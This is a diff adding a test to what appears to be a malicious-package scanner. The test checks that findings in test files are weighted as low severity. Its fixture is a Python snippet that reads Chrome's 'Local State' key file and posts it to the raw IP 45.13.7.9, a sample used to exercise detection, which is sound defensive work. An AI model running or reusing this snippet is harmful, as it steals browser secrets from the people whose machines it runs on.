@@ -105,3 +105,16 @@ def test_environment_sent_out_is_critical() -> None:
     combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
     assert combo
     assert combo[0].severity is Severity.CRITICAL
+
+
+def test_findings_in_tests_and_docs_weigh_little() -> None:
+    code = (
+        "import os, requests\n"
+        "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
+        "requests.post('http://45.13.7.9/up', data=open(p).read())\n"
+    )
+    shipped = run(ALL, py(code, path="pkg/steal.py"))
+    in_tests = run(ALL, py(code, path="pkg-1.0/tests/test_steal.py", stage=Stage.RUNTIME))
+    assert ids(in_tests) == ids(shipped)
+    assert all(f.severity is Severity.LOW for f in in_tests)
+    assert score(in_tests).verdict is not Verdict.MALICIOUS
